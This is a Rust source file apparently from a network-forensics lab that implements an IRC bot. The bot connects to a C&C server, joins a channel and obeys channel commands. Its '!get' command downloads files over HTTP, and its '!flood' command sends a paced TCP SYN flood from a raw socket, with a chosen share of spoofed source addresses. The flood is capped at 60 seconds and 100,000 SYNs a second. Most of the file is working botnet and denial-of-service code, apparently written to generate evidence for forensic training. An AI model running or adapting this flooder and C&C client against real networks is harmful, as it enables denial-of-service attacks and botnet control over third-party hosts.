//! The lab's bot program (`ashiato hostlab bot`, started on each bot host under its own name,
//! `ircbot`): an IRC bot of the kind seed 004 traces. It resolves its C&C by name, joins the
//! channel (NICK, USER, JOIN), answers PINGs and obeys the channel:
//!
//! - `!get URL` — downloads the file over plain HTTP/1.0 (the name is resolved by DNS), keeps
//!   it in `--dir` (never runs it) and answers `got N bytes (elf)`;
//! - `!flood IP PORT SECS RATE SPOOF` — sends RATE TCP SYNs a second to IP:PORT for SECS
//!   seconds from a raw socket (`IPPROTO_RAW`, `IP_HDRINCL`), SPOOF percent of them with a
//!   random source address, the others with its own; answers `flooded N (M spoofed)`;
//! - `!quit` — leaves.
//!
//! It is a real process with its own command name, so the host's `/proc` shows it owning its
//! sockets, as a bot's would. The raw socket has no port: its packets are the claim's
//! evidence, not a process's connection.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream, ToSocketAddrs};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use ashiato_rng::SplitMix64;
use ashiato_wire::build;
use ashiato_wire::packet::TcpFlags;

/// `ashiato hostlab bot`
#[derive(clap::Args, Debug)]
pub struct BotArgs {
    /// The C&C, NAME:PORT (resolved by DNS).
    #[arg(long)]
    pub irc: String,
    /// The channel to join.
    #[arg(long, default_value = "#ops")]
    pub channel: String,
    /// The nickname.
    #[arg(long)]
    pub nick: String,
    /// Where downloads are kept.
    #[arg(long)]
    pub dir: PathBuf,
    /// Seed of the spoofed sources and source ports.
    #[arg(long, default_value_t = 1)]
    pub seed: u64,
}

/// Runs the bot until `!quit` or the server closes.
pub fn run(a: &BotArgs) -> Result<()> {
    let addr = resolve(&a.irc)?;
    let stream = TcpStream::connect_timeout(&addr, Duration::from_secs(5))
        .with_context(|| format!("connecting to the C&C {}", a.irc))?;
    stream.set_read_timeout(Some(Duration::from_secs(120)))?;
    let own = match stream.local_addr()?.ip() {
        IpAddr::V4(v4) => v4,
        IpAddr::V6(_) => bail!("the lab's bot floods over IPv4"),
    };
    let mut w = stream.try_clone()?;
    let mut rng = SplitMix64::new(a.seed);
    let say = |w: &mut TcpStream, line: &str| -> Result<()> {
        w.write_all(format!("{line}\r\n").as_bytes())?;
        Ok(())
    };
    say(&mut w, &format!("NICK {}", a.nick))?;
    say(&mut w, &format!("USER {} 0 * :{}", a.nick, a.nick))?;
    for line in BufReader::new(stream).lines() {
        let line = line.context("reading from the C&C")?;
        let (prefix_less, _) = match line.strip_prefix(':') {
            Some(rest) => (rest.split_once(' ').map_or("", |x| x.1), ()),
            None => (line.as_str(), ()),
        };
        let mut words = prefix_less.split(' ');
        match words.next() {
            Some("PING") => say(
                &mut w,
                &format!("PONG {}", words.collect::<Vec<_>>().join(" ")),
            )?,
            // Welcome: registered, join the channel.
            Some("001") => say(&mut w, &format!("JOIN {}", a.channel))?,
            Some("PRIVMSG") => {
                let Some((_, text)) = prefix_less.split_once(" :") else {
                    continue;
                };
                let cmd: Vec<&str> = text.split_whitespace().collect();
                let answer = match cmd.as_slice() {
                    ["!get", url] => match download(url, &a.dir) {
                        Ok((n, elf)) => format!("got {n} bytes{}", if elf { " (elf)" } else { "" }),
                        Err(e) => format!("get failed: {e:#}"),
                    },
                    ["!flood", ip, port, secs, rate, spoof] => {
                        match flood(own, ip, port, secs, rate, spoof, &mut rng) {
                            Ok((n, s)) => format!("flooded {n} ({s} spoofed)"),
                            Err(e) => format!("flood failed: {e:#}"),
                        }
                    }
                    ["!quit"] => {
                        say(&mut w, "QUIT :bye")?;
                        return Ok(());
                    }
                    _ => continue,
                };
                say(&mut w, &format!("PRIVMSG {} :{answer}", a.channel))?;
            }
            _ => {}
        }
    }
    Ok(())
}

fn resolve(name_port: &str) -> Result<SocketAddr> {
    name_port
        .to_socket_addrs()
        .with_context(|| format!("resolving {name_port}"))?
        .find(SocketAddr::is_ipv4)
        .with_context(|| format!("{name_port}: no IPv4 address"))
}

/// HTTP/1.0 GET of `url` (`http://NAME[:PORT]/PATH`) into `dir`; the body's length and
/// whether it is an ELF executable.
fn download(url: &str, dir: &Path) -> Result<(usize, bool)> {
    let rest = url.strip_prefix("http://").context("only http:// URLs")?;
    let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
    let target = if host.contains(':') {
        host.to_string()
    } else {
        format!("{host}:80")
    };
    let mut s = TcpStream::connect_timeout(&resolve(&target)?, Duration::from_secs(5))?;
    s.set_read_timeout(Some(Duration::from_secs(20)))?;
    s.write_all(
        format!("GET /{path} HTTP/1.0\r\nHost: {host}\r\nUser-Agent: ircbot\r\n\r\n").as_bytes(),
    )?;
    let mut resp = Vec::new();
    s.take(16 << 20).read_to_end(&mut resp)?;
    let head_end = resp
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .context("no HTTP header")?;
    if !resp.starts_with(b"HTTP/1.") || !resp[..head_end].windows(5).any(|w| w == b" 200 ") {
        bail!("not 200 OK");
    }
    let body = &resp[head_end + 4..];
    let name = path
        .rsplit('/')
        .next()
        .filter(|n| !n.is_empty())
        .unwrap_or("download");
    std::fs::write(dir.join(name), body)?;
    Ok((body.len(), body.starts_with(b"\x7fELF")))
}

/// A raw IPv4 socket that sends whole packets (header included).
fn raw_socket() -> Result<OwnedFd> {
    // SAFETY: plain socket(2); the descriptor is owned by the OwnedFd below.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        return Err(std::io::Error::last_os_error()).context("raw socket (root needed)");
    }
    // SAFETY: fd is a fresh descriptor we own.
    let fd = unsafe { OwnedFd::from_raw_fd(fd) };
    let one: libc::c_int = 1;
    // SAFETY: setsockopt with a valid int option value and its size.
    let rc = unsafe {
        libc::setsockopt(
            fd.as_raw_fd(),
            libc::IPPROTO_IP,
            libc::IP_HDRINCL,
            (&raw const one).cast(),
            std::mem::size_of::<libc::c_int>() as libc::socklen_t,
        )
    };
    if rc != 0 {
        return Err(std::io::Error::last_os_error()).context("IP_HDRINCL");
    }
    Ok(fd)
}

fn send_raw(fd: &OwnedFd, dst: Ipv4Addr, pkt: &[u8]) -> std::io::Result<()> {
    let sa = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from(dst).to_be(),
        },
        sin_zero: [0; 8],
    };
    // SAFETY: sendto with a valid buffer and a sockaddr_in of the right size.
    let rc = unsafe {
        libc::sendto(
            fd.as_raw_fd(),
            pkt.as_ptr().cast(),
            pkt.len(),
            0,
            (&raw const sa).cast(),
            std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
        )
    };
    if rc < 0 {
        Err(std::io::Error::last_os_error())
    } else {
        Ok(())
    }
}

/// The SYN flood; returns (packets sent, of which spoofed).
fn flood(
    own: Ipv4Addr,
    ip: &str,
    port: &str,
    secs: &str,
    rate: &str,
    spoof: &str,
    rng: &mut SplitMix64,
) -> Result<(u64, u64)> {
    let dst: Ipv4Addr = ip.parse().context("target address")?;
    let port: u16 = port.parse().context("target port")?;
    let secs: u64 = secs.parse().context("seconds")?;
    let rate: u64 = rate.parse().context("rate")?;
    let spoof: u64 = spoof.parse().context("spoofed percent")?;
    if secs > 60 || rate > 100_000 || spoof > 100 {
        bail!("at most 60 s, 100000 SYNs/s, 100 %");
    }
    let fd = raw_socket()?;
    let start = Instant::now();
    let total = secs * rate;
    let (mut sent, mut spoofed) = (0u64, 0u64);
    while sent < total {
        // Pace: packet i leaves at i / rate seconds.
        let due = Duration::from_secs_f64(sent as f64 / rate as f64);
        if let Some(wait) = due.checked_sub(start.elapsed()) {
            std::thread::sleep(wait);
        }
        let r = rng.next_u64();
        let src = if r % 100 < spoof {
            spoofed += 1;
            // Anywhere but this host's own network and the target.
            Ipv4Addr::from(0x0b00_0000 | ((r >> 8) as u32 & 0x00ff_ffff))
        } else {
            own
        };
        let sport = 1024 + ((r >> 40) % 60000) as u16;
        let seg = build::tcp(
            src.into(),
            dst.into(),
            sport,
            port,
            (r >> 16) as u32,
            0,
            TcpFlags(0x002),
            64240,
            &[],
        );
        let pkt = build::ipv4_with_flags(src, dst, 6, 64, 0, (r >> 48) as u16, true, &seg);
        send_raw(&fd, dst, &pkt).context("sending a SYN")?;
        sent += 1;
    }
    Ok((sent, spoofed))
}
